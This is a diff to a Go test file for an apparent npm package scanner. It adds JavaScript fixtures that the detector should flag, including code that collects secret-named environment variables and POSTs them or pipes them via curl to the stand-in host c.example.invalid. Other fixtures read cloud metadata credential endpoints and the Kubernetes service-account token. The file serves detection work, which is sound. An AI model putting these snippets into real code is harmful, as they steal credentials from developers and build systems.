@@ -11,6 +11,19 @@ import (
 func TestEnvHarvest(t *testing.T) {
 	rt.Check(t, EnvHarvest{}, []rt.Case{
 		{"stringify", map[string]string{"index.js": `fetch(u, {method:"POST", body: JSON.stringify(process.env)})`}, finding.SeverityCritical},
+		// secret-named variables picked by a test, collected and sent
+		{"filtered_then_sent", map[string]string{"index.js": `var k = Object.keys(process.env).filter(function (x) { return /TOKEN|SECRET|KEY/.test(x) }); var o = {}; k.forEach(function (x) { o[x] = process.env[x] });
+require("https").request({ hostname: "c.example.invalid", method: "POST" }).end(JSON.stringify(o))`}, finding.SeverityCritical},
+		// the entries walked into an object that goes into a request body
+		{"entries_collected_sent", map[string]string{"index.js": `const picked = {}; for (const [k, v] of Object.entries(process.env)) { if (/TOKEN|KEY/i.test(k)) picked[k] = v }
+fetch("https://c.example.invalid/c", { method: "POST", body: JSON.stringify({ e: picked }) })`}, finding.SeverityCritical},
+		// curl given the environment on its standard input
+		{"curl_stdin", map[string]string{"index.js": `require("child_process").execSync("curl -s -X POST --data-binary @- https://c.example.invalid/ci", { input: JSON.stringify({ env: process.env }) })`}, finding.SeverityCritical},
+		// a prebuilt installer hands node-gyp a copy of the environment and downloads its binary
+		{"child_env_copy_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node i.js"}`), "i.js": `const env = Object.assign({}, process.env, { npm_config_build_from_source: "true" });
+require("https").get(url, r => r.pipe(out)); require("child_process").spawn(process.execPath, [gyp, "rebuild"], { env, stdio: "inherit" })`}, finding.SeverityLow},
+		// a config loader collecting its own prefix, sending nothing
+		{"prefix_collected", map[string]string{"index.js": `const cfg = {}; for (const [k, v] of Object.entries(process.env)) { if (k.startsWith("MYAPP_")) cfg[k.slice(6)] = v } module.exports = cfg`}, finding.SeverityLow},
 		{"querystring_env", map[string]string{"index.js": `https.get("https://x.example.invalid/?" + querystring.stringify(process.env))`}, finding.SeverityCritical},
 		{"env_in_payload", map[string]string{"index.js": `const d = JSON.stringify({h: 1, e: process.env}); require("https").request({hostname: "t.example.invalid", method: "POST"}).end(d)`}, finding.SeverityCritical},
 		// the environment by other means: Node's report, printenv's output
@@ -94,6 +107,8 @@ func TestFileAccess(t *testing.T) {
 		{"imds_credentials", map[string]string{"index.js": `require("http").get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", cb)`}, finding.SeverityMedium},
 		{"gcp_metadata_read", map[string]string{"index.js": `const fs = require("fs"); fetch("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", {headers: {"Metadata-Flavor": "Google"}}); fs.readFileSync(x)`}, finding.SeverityHigh},
 		{"k8s_token", map[string]string{"index.js": `const t = require("fs").readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token", "utf8")`}, finding.SeverityHigh},
+		// the container-credentials half of the SDK's provider names its own variables
+		{"sdk_container_imds", map[string]string{"index.js": `const { AWS_CONTAINER_CREDENTIALS_RELATIVE_URI: rel } = process.env; require("http").get(rel ? "http://169.254.170.2" + rel : "http://169.254.169.254/latest/meta-data/iam/security-credentials/", cb)`}, finding.SeverityLow},
 		{"sdk_imds", map[string]string{"index.js": `if (process.env.AWS_EC2_METADATA_DISABLED !== "true") require("http").get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", cb)`}, finding.SeverityLow},
 		{"in_cluster_client", map[string]string{"index.js": `if (process.env.KUBERNETES_SERVICE_HOST) token = require("fs").readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token", "utf8")`}, finding.SeverityLow},
 		// the project's .env, read by install-time code that talks to the network
